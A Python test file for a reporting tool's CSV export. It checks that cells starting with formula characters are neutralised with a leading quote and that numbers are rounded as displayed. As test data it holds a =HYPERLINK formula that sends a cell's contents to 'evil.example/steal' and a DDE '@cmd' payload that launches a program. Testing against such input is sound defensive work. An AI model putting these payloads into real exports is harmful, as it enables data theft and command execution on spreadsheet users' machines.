"""Issue 13.8: no CSV export hands a spreadsheet a formula; numbers are rounded as shown."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlmodel import Session
from typer.testing import CliRunner

from activities.case_tables import EscalationRecord
from activities.db import SessionFactory, get_engine, init_db
from activities.directory_load import load_directory_file
from activities.duty_tables import KeyAccountCallback
from activities.report_render import to_csv
from activities.reports import monthly_report
from cablecare import REPO_ROOT
from cablecare.cli import app
from cablecare.csv_export import safe_cell
from cablecare.policy import load_policy
from cablecare.settings import get_settings

POLICY = load_policy(REPO_ROOT / "policy" / "sla-policy.toml")
EVIL = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'


def test_13_8_formula_starts_are_neutralised_numbers_are_not() -> None:
    for dangerous in ("=1+1", "+86 551", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_cell("蜀山服务区") == "蜀山服务区" and safe_cell("") == ""
    assert safe_cell(-3) == -3 and safe_cell(0.125) == 0.125 and safe_cell(None) is None


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def db_cli(database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setenv("DATABASE_URL", database_url)
    get_settings.cache_clear()
    init_db(database_url)
    yield database_url
    get_settings.cache_clear()


def test_13_8_report_csv_neutralises_a_hyperlink_area_name_and_rounds(
    db_cli: str, tmp_path: Path
) -> None:
    doc = json.loads((REPO_ROOT / "data" / "sample-directory.json").read_text(encoding="utf-8"))
    doc["areas"][0]["name"] = EVIL
    path = tmp_path / "directory.json"
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    load_directory_file(db_cli, path)
    with Session(get_engine(db_cli)) as session:
        report = monthly_report(session, POLICY, "2026-11")
    rows = _cells(to_csv(report))
    named = next(r for r in rows if r["area_id"] == doc["areas"][0]["area_id"])
    assert named["name"] == "'" + EVIL
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
    for r in rows:  # as the page shows them: 1 decimal of a percent, whole households
        for field, places in (("households_per_technician", 0), ("response_rate", 3)):
            if r[field]:
                assert len(r[field].partition(".")[2]) <= max(places, 1), (field, r[field])

    out = CliRunner().invoke(app, ["report", "monthly", "--month", "2026-11", "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert "'=HYPERLINK" in out.stdout and ',"=HYPERLINK' not in out.stdout


def test_13_8_escalations_and_callbacks_csv_are_safe(db_cli: str) -> None:
    with SessionFactory(db_cli)() as session:
        session.add(
            EscalationRecord(
                workflow_id="service-request-E1", request_id="E1", area_id="A-HF-01",
                key="breach/1", kind="breach", rule="R4.7", at=datetime(2026, 11, 20, tzinfo=UTC),
                to=["SUP-HF-01"], reason="-1+1 limit passed",
            )
        )  # fmt: skip
        session.add(
            KeyAccountCallback(
                task_id="2026-11/SUB-000001", period="2026-11", subscriber_id="SUB-000001",
                area_id="A-HF-01", due_on=date(2026, 11, 30),
                created_at=datetime(2026, 11, 1, tzinfo=UTC), state="done", reached=True,
                satisfied=True, note="@cmd|' /C calc'!A0",
            )
        )  # fmt: skip
        session.commit()
    runner = CliRunner()
    escalations = runner.invoke(app, ["escalations", "--csv"])
    assert escalations.exit_code == 0, escalations.output
    assert _cells(escalations.stdout)[0]["reason"] == "'-1+1 limit passed"
    callbacks = runner.invoke(app, ["callbacks", "list", "--csv"])
    assert callbacks.exit_code == 0, callbacks.output
    assert _cells(callbacks.stdout)[0]["note"] == "'@cmd|' /C calc'!A0"
